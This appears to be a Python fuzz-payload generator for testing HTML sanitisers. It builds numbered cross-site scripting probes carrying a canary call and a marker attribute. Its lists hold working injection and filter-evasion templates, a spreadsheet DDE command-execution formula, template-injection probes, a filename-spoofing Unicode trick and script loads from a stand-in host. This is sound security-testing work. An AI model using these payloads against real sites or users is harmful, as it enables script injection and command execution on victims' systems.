"""Words that want to be more than words: the same for the same seed. Each begins with its number, and marks what it would make."""

from __future__ import annotations

import random

MARK = "data-kanari"
TEMPLATES = [
    "<script {m}>{js}</script>", "<script {m} src=//{host}/{n}></script>", "<img {m} src=x onerror={js}>",
    "<svg {m} onload={js}>", "<svg {m}><script>{js}</script></svg>",
    "<svg {m}><animate onbegin={js} attributeName=x dur=1s>",
    "<svg {m}><a xlink:href='javascript:{js}'><text>x</text></a></svg>",
    "<svg {m}><use href='data:image/svg+xml,<svg id=x/>#x'/>",
    "<math {m}><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={js}&gt;'>",
    "<math {m}><a xlink:href='javascript:{js}'>x</a></math>", "<a {m} href='javascript:{js}'>x</a>",
    "<a {m} href='data:text/html,<b>x'>x</a>", "<iframe {m} srcdoc='<script>{js}</script>'>",
    "<iframe {m} src='javascript:{js}'>", "<object {m} data='//{host}/{n}'>", "<embed {m} src='//{host}/{n}'>",
    "<base {m} href='//{host}/'>", "<link {m} rel=stylesheet href='//{host}/{n}.css'>",
    "<meta {m} http-equiv=refresh content='0;url=//{host}/{n}'>",
    "<form {m} action='//{host}/{n}'><button autofocus onfocus={js}>", "<input {m} autofocus onfocus={js}>",
    "<details {m} open ontoggle={js}>", "<video {m}><source onerror={js}></video>", "<audio {m} src=x onerror={js}>",
    "<body {m} onload={js}>", "<marquee {m} onstart={js}>x</marquee>", "<style {m}>*{{display:none}}</style>",
    "<p {m} style='background:url(//{host}/{n})'>", "<div {m} hx-get='//{host}/{n}' hx-trigger=load></div>",
    "<div {m} hx-on:load='{js}' hx-on::load='{js}'>", "<div {m} hx-swap-oob=innerHTML:#main>x</div>",
    "<template {m} shadowrootmode=open>x", "<noscript {m}><p title='</noscript><img src=x onerror={js}>'>",
    "<scr<script {m}>ipt>{js}</scr</script>ipt>", "<<script {m}>{js}//<</script>",
    "<img {m} src=\"x`\"`<script>{js}</script>", "<a {m} href=\"&#106;avascript:{js}\">x</a>",
    "<xmp {m}><img src=x onerror={js}></xmp>", "<textarea {m}></textarea><img src=x onerror={js}>",
    "<title {m}></title><img src=x onerror={js}>", "<kanari {m}>{{{{ 7*7 }}}}{{% load x %}}${{7*7}}#{{7*7}}</kanari>",
    "<span {m}>\u202egnp.exe\u202c\u2066\u2069</span>",
]  # fmt: skip
BREAKS = [
    "", "", "", "\"", "'", "\">", "'>", "`>", "</p>", "</textarea>", "</title>", "</option></select>", "</script>",
    "--><!-->", "]]>", "\"/>", "</style>", "\\\"", "\\'", "&quot;>", "%22%3E", "\u2028", "</a>", "</time>", "/*",
    "*/",
]  # fmt: skip
LINKS = [
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "\x01javascript:{js}",
    "data:text/html,<script>{js}</script>",
    "vbscript:{js}",
]
SHEET = ["=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1"]
HOST = "beacon.test"


def payload(chance: random.Random, number: int) -> str:
    script = f"kanari({number})"
    values = {"m": MARK, "js": script, "host": HOST, "n": number}
    if chance.random() < 0.08:
        return f"{number} {chance.choice(LINKS).format(**values)}"
    if chance.random() < 0.05:
        return chance.choice(SHEET) + str(number)
    inner = chance.choice(TEMPLATES).format(**values)
    if chance.random() < 0.3:
        inner = chance.choice(
            ["<b {m}>{x}</b>", "<!--{x}-->", "https://x.test/{x}", "@{x}", "#{x}", "**{x}**", "[x]({x})"]
        ).format(m=MARK, x=inner)
    if chance.random() < 0.2:
        inner = _disguised(chance, inner)
    return f"{number}{chance.choice(BREAKS)}{inner}"


def _disguised(chance: random.Random, text: str) -> str:
    how = chance.randrange(4)
    if how == 0:
        return "".join(char.swapcase() if chance.random() < 0.5 else char for char in text)
    if how == 1:
        return text.replace(" ", chance.choice(["/", "\t", "\n", "\x0c"]))
    if how == 2:
        return text.replace("<", "&lt;").replace(">", "&gt;")
    return text.replace("<", "＜" if chance.random() < 0.3 else "<\u200b" if chance.random() < 0.3 else "<")
